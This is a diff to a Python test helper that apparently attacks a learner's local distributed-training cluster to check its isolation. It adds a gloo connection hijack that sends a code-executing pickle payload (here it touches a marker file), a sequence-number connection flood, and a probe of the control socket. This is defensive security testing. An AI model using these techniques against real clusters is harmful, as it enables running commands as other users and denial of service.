@@ -2,11 +2,27 @@
 
     python isolation_attacker.py probe  < targets.json    # one JSON line: {attempt: result}
     python isolation_attacker.py flood N PORT... < stop    # holds connections until stdin closes
+    python isolation_attacker.py hijack UID MARKER PID... < ports  # gloo pairs of new groups
+    python isolation_attacker.py seqflood N PORT...        # N gloo hellos per port, then closed
 
 `probe` tries every path into a learner's cluster that the test names (ports, files, pids,
 names) and says of each "refused: why" or "GOT IN: what it got"; it never stops at the first
 success. `flood` opens up to N idle connections to the given loopback ports (fewer if this
-process's descriptor limit is lower), prints how many it holds, and waits.
+process's descriptor limit is lower), prints how many it holds (and how many were accepted),
+and waits.
+
+The gloo attacks (a local cluster's ranks talk over TCP listeners with no authentication; gloo
+hands an incoming connection to whichever pair waits for the 8-byte sequence number it sends
+first, and sequence numbers start at 0):
+- `hijack` is told (on stdin, by the test, the moment it opens) the port of each new gloo
+  listener of the learner's ranks: a real attacker finds them in /proc/net/tcp, with their
+  owner's uid, but on a shared machine that table also lists other people's clusters, which
+  this test must not touch. It connects to each at once and sends sequence numbers 0-3 on four
+  connections, then answers whatever the rank sends with a pickle that would run a command as
+  the learner (what `all_gather_object` would load); it says whether the port shows in its own
+  /proc/net/tcp, and prints one JSON line at the end.
+- `seqflood` sends N hellos nobody waits for (8 bytes each) to each port, closing each of its
+  sockets: a rank used to keep every one for the life of its process group.
 """
 import datetime
 import json
@@ -62,12 +78,18 @@ def _read(path: str, what: str = "bytes") -> str:
         return _refused(exc)
 
 
-def _control_hello(port: int) -> str:
-    """The control port's handshake with a key of our own."""
+def _control_hello(address) -> str:
+    """The control socket's handshake with a key of our own (a local cluster's: a Unix socket
+    in its folder; a port number: TCP)."""
     from multiprocessing.connection import answer_challenge, deliver_challenge
     from labkit.runtime import frames
     try:
-        s = socket.create_connection(("127.0.0.1", port), 5)
+        if isinstance(address, str):
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            s.settimeout(5)
+            s.connect(address)
+        else:
+            s = socket.create_connection(("127.0.0.1", address), 5)
         conn = frames.Blocking(s)
         key = secrets.token_bytes(32)
         answer_challenge(conn, key)
@@ -111,7 +133,7 @@ def probe(t: dict) -> dict:
     out["list a rank's descriptors (/proc)"] = _read(f"/proc/{pid}/fd")
     out["open a shared-memory tensor (/proc/PID/fd)"] = _read(t["shm_path"])
     out["read the key file"] = _read(t["key_file"])
-    out["hello on the control port with a key of our own"] = _control_hello(t["control_port"])
+    out["hello on the control socket with a key of our own"] = _control_hello(t["control"])
     try:
         s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
         s.bind(t["agent_name_guess"].encode("latin-1"))
@@ -145,15 +167,129 @@ def flood(n: int, ports: list) -> None:
             failed += 1
             if len(held) >= hard - 16:
                 break
-    print(json.dumps({"held": len(held), "seconds": round(time.monotonic() - t0, 1)}), flush=True)
+    time.sleep(1.0)                               # let the handshakes finish (or be refused)
+    accepted = 0
+    for s in held:
+        try:
+            s.getpeername()
+            accepted += 1
+        except OSError:                           # refused: nothing listens there for us
+            pass
+    print(json.dumps({"held": len(held), "accepted": accepted,
+                      "seconds": round(time.monotonic() - t0, 1)}), flush=True)
     sys.stdin.read()                              # hold them until the test is done
     for s in held:
         s.close()
+
+
+def _listeners(tables: list, uid: int) -> set:
+    """Ports listening in these /proc/.../net/tcp tables, owned by `uid`."""
+    ports = set()
+    for table in tables:
+        try:
+            with open(table) as f:
+                lines = f.readlines()[1:]
+        except OSError:
+            continue
+        for line in lines:
+            cols = line.split()
+            if cols[3] == "0A" and int(cols[7]) == uid:
+                ports.add(int(cols[1].rsplit(":", 1)[1], 16))
+    return ports
+
+
+class _Payload:
+    """Unpickled, it runs a command (here: it creates a file named by the test)."""
+
+    def __init__(self, marker):
+        self.marker = marker
+
+    def __reduce__(self):
+        return (os.system, (f"touch {self.marker}",))
+
+
+def hijack(uid: int, pids: list, marker: str) -> None:
+    """Told each new listener's port on stdin (one per line, as soon as it opens; EOF: done),
+    connect to it at once with sequence numbers 0-3 and answer what the rank sends with a
+    pickle. Also says whether each port shows in this user's own /proc/net/tcp."""
+    import pickle
+    import select
+    own = ["/proc/net/tcp", "/proc/net/tcp6"]
+    theirs = [f"/proc/{p}/net/{t}" for p in pids for t in ("tcp", "tcp6")]
+    print(json.dumps({"their_tables_readable": [t for t in theirs if _can_read(t)]}), flush=True)
+    told, visible, connected, refused, held = [], [], 0, [], []
+    payload = pickle.dumps(_Payload(marker))
+    stdin_open = True
+    while stdin_open or held:
+        ready = select.select([sys.stdin] if stdin_open else [], [], [], 0.002)[0]
+        if ready:
+            line = sys.stdin.readline()
+            if not line:
+                stdin_open = False
+                break
+            port = int(line)
+            told.append(port)
+            for seq in range(4):
+                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                try:
+                    s.settimeout(1.0)
+                    s.connect(("127.0.0.1", port))
+                    s.sendall(seq.to_bytes(8, "little"))
+                    s.setblocking(False)
+                    held.append(s)
+                    connected += 1
+                except OSError as exc:
+                    refused.append(f"{port}/{seq}: {type(exc).__name__}")
+                    s.close()
+            if port in _listeners(own, uid):
+                visible.append(port)
+        for s in select.select(held, [], [], 0)[0] if held else []:
+            try:                                  # whatever the rank sends: answer with the pickle
+                if s.recv(1 << 16):
+                    s.send(payload)
+            except OSError:
+                pass
+    print(json.dumps({"told": told, "visible_in_our_proc_net_tcp": visible,
+                      "connected": connected, "refused": refused[:8]}), flush=True)
+    for s in held:
+        s.close()
+
+
+def _can_read(path: str) -> bool:
+    try:
+        with open(path) as f:
+            f.readline()
+        return True
+    except OSError:
+        return False
+
+
+def seqflood(n: int, ports: list) -> None:
+    """n connections per port, each sending an 8-byte sequence number nobody waits for, then
+    closed on this side."""
+    accepted, refused, t0 = 0, 0, time.monotonic()
+    for port in ports:
+        for i in range(n):
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            try:
+                s.connect(("127.0.0.1", port))
+                s.sendall(((1 << 40) + i).to_bytes(8, "little"))
+                accepted += 1
+            except OSError:
+                refused += 1
+            finally:
+                s.close()
+    print(json.dumps({"accepted": accepted, "refused": refused,
+                      "seconds": round(time.monotonic() - t0, 1)}), flush=True)
 
 
 if __name__ == "__main__":
     if sys.argv[1] == "probe":
         print(json.dumps(probe(json.loads(sys.stdin.read()))), flush=True)
         os._exit(0)                               # a store client stuck in C++ must not hold us
+    elif sys.argv[1] == "hijack":
+        hijack(int(sys.argv[2]), [int(p) for p in sys.argv[4:]], sys.argv[3])
+    elif sys.argv[1] == "seqflood":
+        seqflood(int(sys.argv[2]), [int(p) for p in sys.argv[3:]])
     else:
         flood(int(sys.argv[2]), [int(p) for p in sys.argv[3:]])
